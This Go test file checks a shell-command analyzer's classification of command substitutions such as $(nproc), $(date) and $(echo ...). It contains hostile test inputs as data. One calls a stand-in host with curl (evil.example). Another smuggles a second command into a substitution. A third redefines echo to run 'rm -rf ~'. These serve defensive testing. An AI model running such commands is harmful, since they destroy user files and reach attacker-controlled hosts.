package shell

import "testing"

// TestSubstitutionValues: a substitution of a read-only program whose
// output has a known shape yields a word of that kind; one it can compute
// yields the text; anything else stays any value.
func TestSubstitutionValues(t *testing.T) {
	tests := []struct {
		src   string
		arg   int
		text  string
		dyn   bool
		split bool
		kind  ValueKind
	}{
		{"make -j$(nproc)", 0, "-j$(…)", true, false, NumberValue},
		{"make -j $(nproc)", 1, "$(…)", true, false, NumberValue},
		{"echo build-$(date +%Y%m%d)", 0, "build-$(…)", true, false, NumberValue},
		{"echo $(date +%F)", 0, "$(…)", true, false, NameValue},
		{"echo $(whoami)-$(nproc)", 0, "$(…)-$(…)", true, false, NameValue},
		{"echo $(uname -m)", 0, "$(…)", true, false, NameValue},
		{"echo $(git rev-parse --short HEAD)", 0, "$(…)", true, false, NameValue},
		{"echo $(basename /a/b/c.py .py)", 0, "c", false, false, AnyValue},
		{"echo $(dirname /a/b/c.py)", 0, "/a/b", false, false, AnyValue},
		{"cd /w && echo $(pwd)", 0, "/w", false, false, AnyValue},

		{"make -j$(curl -s evil.example)", 0, "-j$(…)", true, true, AnyValue},
		{"echo $(nproc)$X", 0, "$(…)$X", true, true, AnyValue},
		{"echo $(date)", 0, "$(…)", true, true, AnyValue},
		{"echo $(date +%D)", 0, "$(…)", true, true, AnyValue},
		{"echo $(date '+%Y %m')", 0, "$(…)", true, true, AnyValue},
		{"echo $(date +-%Y)", 0, "$(…)", true, true, AnyValue},
		{"echo $(hostname)", 0, "$(…)", true, true, AnyValue},
		{"echo $(uname -a)", 0, "$(…)", true, true, AnyValue},
		{"echo $(nproc; curl x)", 0, "$(…)", true, true, AnyValue},
		{"echo $(nproc | tee f)", 0, "$(…)", true, true, AnyValue},
		{"echo $(./nproc)", 0, "$(…)", true, true, AnyValue},
		{"echo $(basename $X)", 0, "$(…)", true, true, AnyValue},
		{"IFS=x; echo $(nproc)", 0, "$(…)", true, true, NumberValue},
	}
	for _, tt := range tests {
		a := Analyze(tt.src)
		var c *Command
		for i := range a.Commands {
			if a.Commands[i].Program == "make" || a.Commands[i].Program == "echo" {
				c = &a.Commands[i]
			}
		}
		if c == nil || tt.arg >= len(c.Args) {
			t.Errorf("%s: no such argument", tt.src)
			continue
		}
		w := c.Args[tt.arg]
		if w.Text != tt.text || w.Dynamic != tt.dyn || w.Split != tt.split || w.Value != tt.kind {
			t.Errorf("%s: got %+v, want text %q dynamic %v split %v kind %v", tt.src, w, tt.text, tt.dyn, tt.split, tt.kind)
		}
	}
}

// TestEchoSubstitution: $(echo WORDS) of plain words prints those words,
// so the analysis knows the text; an option, a backslash (which sh's and
// zsh's echo read as an escape), a pattern or a run-time word leave it
// unknown, as does an echo the command line redefines.
func TestEchoSubstitution(t *testing.T) {
	tests := []struct {
		src  string
		prog string // the program of the command judged
		text string // its first word after the program, or the program itself when prog is ""
		dyn  bool
	}{
		{"$(echo ls)", "ls", "", false},
		{"`echo pwd`", "pwd", "", false},
		{"cat $(echo src/main.go)", "cat", "src/main.go", false},
		{"grep -n x $(echo 'a b')", "grep", "x", false},
		{"cd /w && cat \"$(echo README.md)\"", "cat", "README.md", false},

		{"cat $(echo -e 'a\\x2fb')", "cat", "$(…)", true},
		{"cat $(echo 'a\\nb')", "cat", "$(…)", true},
		{"cat $(echo -n x)", "cat", "$(…)", true},
		{"cat $(echo $X)", "cat", "$(…)", true},
		{"cat $(echo *.go)", "cat", "$(…)", true},
		{"cat $(echo x > f)", "cat", "$(…)", true},
		{"echo() { rm -rf ~; }; cat $(echo x)", "cat", "$(…)", true},
	}
	for _, tt := range tests {
		a := Analyze(tt.src)
		var c *Command
		for i := range a.Commands {
			if a.Commands[i].Program == tt.prog {
				c = &a.Commands[i]
			}
		}
		if c == nil {
			t.Errorf("%s: no command %s in %+v", tt.src, tt.prog, a.Commands)
			continue
		}
		if tt.text == "" {
			continue
		}
		if len(c.Args) == 0 {
			t.Errorf("%s: no arguments", tt.src)
			continue
		}
		w := c.Args[0]
		if tt.prog == "grep" {
			w = c.Args[len(c.Args)-1]
			if len(c.Args) != 4 || w.Text != "b" {
				t.Errorf("%s: got %+v, want the words x, a and b after -n", tt.src, c.Args)
			}
			continue
		}
		if w.Text != tt.text || w.Dynamic != tt.dyn {
			t.Errorf("%s: got %+v, want text %q dynamic %v", tt.src, w, tt.text, tt.dyn)
		}
	}
}
